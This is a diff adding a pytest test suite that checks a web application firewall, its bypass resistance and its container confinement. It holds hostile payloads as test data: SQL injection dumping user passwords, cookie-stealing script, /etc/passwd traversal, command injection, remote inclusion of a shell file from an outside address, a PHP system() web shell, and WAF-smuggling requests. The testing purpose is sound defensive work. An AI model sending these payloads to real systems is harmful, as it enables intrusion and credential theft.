@@ -1,0 +1,199 @@
+"""The web application firewall: attacks end in it, whatever road they try, and everything the site has passes."""
+
+from __future__ import annotations
+
+import json
+import re
+import time
+from collections.abc import Callable
+from typing import Any
+from urllib.parse import quote
+
+import pytest
+from testinfra.host import Host
+
+from difusor.report.rawhttp import send
+
+Expect = Callable[[str], dict[str, Any]]
+Record = Callable[[object], None]
+Container = dict[str, Any]
+
+ATTACKS = {
+    "inyección SQL": "?id=1%27%20OR%20%271%27=%271%27--%20",
+    "inyección SQL con UNION": "?id=-1%20UNION%20SELECT%20user,password%20FROM%20users",
+    "guion en un parámetro": "?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
+    "guion en un atributo": "?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
+    "recorrido de carpetas": "?archivo=../../../../etc/passwd",
+    "recorrido de carpetas codificado": "?archivo=..%252f..%252fetc%252fpasswd",
+    "órdenes al sistema": "?host=127.0.0.1;cat%20/etc/passwd",
+    "órdenes al sistema con $()": "?host=$(/bin/cat%20/etc/passwd)",
+    "inclusión remota": "?pagina=http://203.0.113.7/shell.txt?",
+    "código PHP": "?q=%3C?php%20system($_GET[c]);?%3E",
+    "clases de Java": "?q=java.lang.Runtime.getRuntime().exec(1)",
+    "archivos de administración": ".git/config",
+    "secretos de la aplicación": ".env",
+    "respaldos": "wp-config.php.bak",
+    "división de la respuesta": "?q=a%0d%0aSet-Cookie:%20sesion=1",
+}
+SECRET = "marca-del-ataque"
+PAYLOAD = f"<script>{SECRET}</script>"
+
+
+@pytest.fixture
+def container(host: Host) -> Container:
+    """What Docker says of the one WAF container."""
+    names = host.check_output("docker ps --filter label=prep-difusor.role=waf --format '{{.Names}}'").split()
+    assert len(names) == 1, f"se esperaba un contenedor del WAF y hay {len(names)}"
+    inspected: Container = json.loads(host.check_output(f"docker inspect {names[0]}"))[0]
+    return inspected
+
+
+@pytest.fixture
+def open_gate(host: Host, variables: dict[str, Any]) -> None:
+    """Skip where the gate is closed: it refuses everything, so nothing would be learnt about the WAF."""
+    (answer,) = send(host, variables, [request(variables, "")])
+    if answer["statuses"] == [503]:
+        pytest.skip("la compuerta está cerrada: todo recibe el aviso de espera antes de llegar al WAF")
+
+
+@pytest.mark.clause("RED-07")
+@pytest.mark.usefixtures("open_gate")
+def test_attacks_are_refused(host: Host, variables: dict[str, Any], expect: Expect, record_evidence: Record) -> None:
+    """El WAF rechaza ataques clásicos: inyección, guiones, recorrido de carpetas, órdenes, archivos prohibidos."""
+    answers = send(host, variables, [request(variables, path) for path in ATTACKS.values()])
+    found = {name: answer["statuses"] for name, answer in zip(ATTACKS, answers, strict=True)}
+    record_evidence(found)
+    passed = [name for name, statuses in found.items() if statuses[0] not in expect("RED-07")["blocked_status"]]
+    assert not passed, f"pasaron: {passed}"
+
+
+@pytest.mark.clause("RED-07")
+@pytest.mark.usefixtures("open_gate")
+def test_scanners_are_refused_from_outside(
+    untrusted: Host, variables: dict[str, Any], expect: Expect, record_evidence: Record
+) -> None:
+    """Desde fuera, una herramienta de ataque que dice su nombre recibe un rechazo del WAF en español."""
+    (answer,) = send(untrusted, variables, [request(variables, "", "User-Agent: sqlmap/1.8")])
+    record_evidence(answer["head"].splitlines()[0])
+    assert answer["statuses"][0] in expect("RED-07")["blocked_status"]
+    assert "La solicitud fue rechazada" in answer["body"]
+
+
+@pytest.mark.clause("RED-07")
+@pytest.mark.usefixtures("open_gate")
+def test_no_attack_is_smuggled_past_it(host: Host, variables: dict[str, Any], record_evidence: Record) -> None:
+    """Ningún ataque llega a la aplicación por otro camino: codificación, cookies, cuerpos, URI absoluta, cabeceras."""
+    base, name = variables["difusor_path"], variables["difusor_fqdn"]
+    coded = quote(PAYLOAD)
+    lines = [
+        f"GET {base}?q={coded} HTTP/1.1",
+        f"GET {base}?fbclid={coded} HTTP/1.1",
+        f"GET {base}index.html?fbclid=a&q={coded} HTTP/1.1",
+        f"GET https://{name}{base}?q={coded} HTTP/1.1",
+        f"GET {base}index.html/{coded}.html HTTP/1.1",
+        f"GET {base}/index.html?q={coded} HTTP/1.1",
+        f"GET {base}.//index.html?q={coded} HTTP/1.1",
+        f"GET {base}%69ndex.html?q={coded} HTTP/1.1",
+        f"GET {base}datos/..;/index.html?q={coded} HTTP/1.1",
+        f"GET {base}_fast/?q={coded} HTTP/1.1",
+        f"GET {base}_aviso/../?q={coded} HTTP/1.1",
+        f"GET {base}?q={PAYLOAD} HTTP/1.1",
+        f"GET {base}?q=%00{coded} HTTP/1.0",
+    ]
+    texts = [f"{line}\r\nHost: {name}\r\nConnection: close\r\n\r\n" for line in lines]
+    texts += [
+        request(variables, "", f"Cookie: a={PAYLOAD}"),
+        request(variables, "", f"Content-Length: {len(PAYLOAD)}") + PAYLOAD,
+        request(variables, "", "Transfer-Encoding: chunked") + f"{len(PAYLOAD):x}\r\n{PAYLOAD}\r\n0\r\n\r\n",
+        request(variables, "", f"X-Original-URL: /?q={coded}"),
+        request(variables, "", f"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\nX-Rewrite-URL: {coded}"),
+        f"GET {base} HTTP/1.1\r\nHost: {name}\r\nHost: {SECRET}\r\nConnection: close\r\n\r\n",
+    ]
+    since = host.check_output("date --utc +%Y-%m-%dT%H:%M:%SZ")
+    answers = send(host, variables, texts)
+    application = host.check_output("docker ps --filter label=prep-difusor.role=prep --format '{{.Names}}'")
+    seen = host.check_output("docker logs --since %s %s 2>&1", since, application)
+    record_evidence(f"{len(texts)} intentos: {[answer['statuses'] for answer in answers]}")
+    assert "GET" in seen or "HEAD" in seen, "la bitácora de la aplicación no dice qué recibe"
+    assert SECRET not in seen, "un ataque llegó a la aplicación"
+    assert not any(SECRET in answer["body"] for answer in answers), "un ataque volvió en la respuesta"
+
+
+@pytest.mark.clause("RED-07", "DG-02")
+@pytest.mark.usefixtures("open_gate")
+def test_everything_published_passes_it(host: Host, variables: dict[str, Any], record_evidence: Record) -> None:
+    """El WAF no estorba: deja pasar cada archivo del corte y de la página aun cuando lo revisa."""
+    published = host.check_output("find -L /srv/prep/publico/actual/ -type f -printf '%P\\n'").splitlines()
+    page = send(host, variables, [request(variables, "")])[0]["body"]
+    linked = [path for path in re.findall(r'(?:href|src)="([^"#]+)"', page) if not re.match(r"[a-z]+:|/", path)]
+    paths = ["", "index.html", *linked, *published]
+    # A harmless argument takes each of them off the fast road.
+    pending, refused = [f"{quote(path)}?revision=1" for path in paths], {}
+    deadline = time.monotonic() + 120
+    while pending and time.monotonic() < deadline:
+        answers = send(host, variables, [request(variables, path).replace("GET", "HEAD", 1) for path in pending[:40]])
+        for path, answer in zip(pending[:40], answers, strict=True):
+            if answer["statuses"] != [429]:
+                pending.remove(path)
+                refused |= {path: answer["statuses"]} if answer["statuses"] != [200] else {}
+    record_evidence(f"{len(paths)} rutas revisadas, {len(refused)} rechazadas")
+    assert not pending, f"sin respuesta a tiempo: {pending}"
+    assert not refused
+
+
+@pytest.mark.clause("RED-07")
+def test_engine_blocks(host: Host, record_evidence: Record) -> None:
+    """El motor bloquea (no solo registra), con el nivel y las excepciones que aquí se listan con su razón."""
+    settings = host.check_output("cat /etc/waf/settings.conf /etc/waf/exclusions.conf")
+    record_evidence("; ".join(line for line in settings.splitlines() if line and "Managed by" not in line))
+    assert re.search(r"^SecRuleEngine On$", settings, re.MULTILINE)
+
+
+@pytest.mark.clause("RED-07")
+def test_image_is_the_pinned_one(container: Container, variables: dict[str, Any], record_evidence: Record) -> None:
+    """El contenedor del WAF corre la imagen fijada por su SHA-256."""
+    image = variables["difusor_waf_image"]
+    pinned = image.get("sha256") or image["reference"].split("@sha256:")[-1]
+    record_evidence(f"{container['Config']['Image']} (fijada: {pinned})")
+    assert container["Config"]["Image"].endswith(pinned[:12])
+
+
+@pytest.mark.clause("RED-07")
+def test_container_is_confined(host: Host, container: Container, record_evidence: Record) -> None:
+    """El WAF corre sin red, sin privilegios y sin poder escribir más que su enchufe y su carpeta temporal."""
+    limits, pid = container["HostConfig"], container["State"]["Pid"]
+    lines = host.check_output(f"cat /proc/{pid}/status").splitlines()
+    status = dict(line.split(":\t", 1) for line in lines if ":\t" in line)
+    interfaces = host.check_output(f"awk 'NR > 2 {{print $1}}' /proc/{pid}/net/dev").split()
+    record_evidence(
+        f"red {limits['NetworkMode']} {interfaces}, uid {status['Uid'].split()[0]}, capacidades {status['CapEff']}, "
+        f"NoNewPrivs {status['NoNewPrivs']}, Seccomp {status['Seccomp']}, memoria {limits['Memory'] >> 20} MiB"
+    )
+    assert limits["NetworkMode"] == "none"
+    assert interfaces == ["lo:"]
+    assert limits["ReadonlyRootfs"] is True
+    assert not limits["Privileged"]
+    assert status["Uid"].split() == ["10002"] * 4
+    assert int(status["CapEff"], 16) == 0
+    assert status["NoNewPrivs"] == "1"
+    assert status["Seccomp"] == "2"
+    assert 0 < limits["Memory"] == limits["MemorySwap"]
+    assert limits["PidsLimit"] > 0
+    assert [mount["Destination"] for mount in container["Mounts"] if mount["RW"]] == ["/run/waf"]
+
+
+@pytest.mark.clause("RED-07")
+def test_container_recovers(container: Container, record_evidence: Record) -> None:
+    """El WAF está sano según su propia comprobación y vuelve solo tras un reinicio."""
+    health, policy = container["State"]["Health"]["Status"], container["HostConfig"]["RestartPolicy"]["Name"]
+    record_evidence(f"{health}, reinicio {policy}")
+    assert health == "healthy"
+    assert policy in ("unless-stopped", "always")
+
+
+def request(variables: dict[str, Any], path: str, header: str = "X-Requested-By: dictamen") -> str:
+    """Return a GET of a path below the site's, as a browser would ask, with one header more."""
+    return (
+        f"GET {variables['difusor_path']}{path} HTTP/1.1\r\nHost: {variables['difusor_fqdn']}\r\n"
+        f"Accept: */*\r\n{header}\r\nConnection: close\r\n\r\n"
+    )
